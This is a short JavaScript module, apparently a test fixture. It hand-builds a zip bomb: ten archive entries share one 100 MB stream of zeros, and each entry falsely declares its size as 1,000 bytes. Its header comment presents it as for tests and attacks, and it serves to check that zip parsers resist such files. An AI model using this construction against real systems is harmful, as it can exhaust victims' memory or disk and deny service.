// For tests and attacks: a small zip that says wrong things of itself.
import { deflateRawSync } from "node:zlib";

/**
 * A zip of ten entries on one stream of 100 MB of zeros, each declared as 1,000 bytes.
 *
 * @returns {Uint8Array<ArrayBuffer>}
 */
export function zipBomb() {
	const packed = deflateRawSync(new Uint8Array(100_000_000), { level: 9 });
	const local = Buffer.alloc(34);
	local.writeUInt32LE(0x04034b50, 0);
	local.writeUInt16LE(8, 8);
	local.writeUInt32LE(packed.length, 18);
	local.writeUInt32LE(1_000, 22);
	local.writeUInt16LE(4, 26);
	local.write("nell", 30);
	const entry = Buffer.alloc(50);
	entry.writeUInt32LE(0x02014b50, 0);
	entry.writeUInt16LE(8, 10);
	entry.writeUInt32LE(packed.length, 20);
	entry.writeUInt32LE(1_000, 24);
	entry.writeUInt16LE(4, 28);
	entry.write("nell", 46);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(10, 8);
	end.writeUInt16LE(10, 10);
	end.writeUInt32LE(500, 12);
	end.writeUInt32LE(34 + packed.length, 16);
	return new Uint8Array(Buffer.concat([local, packed, ...new Array(10).fill(entry), end]));
}
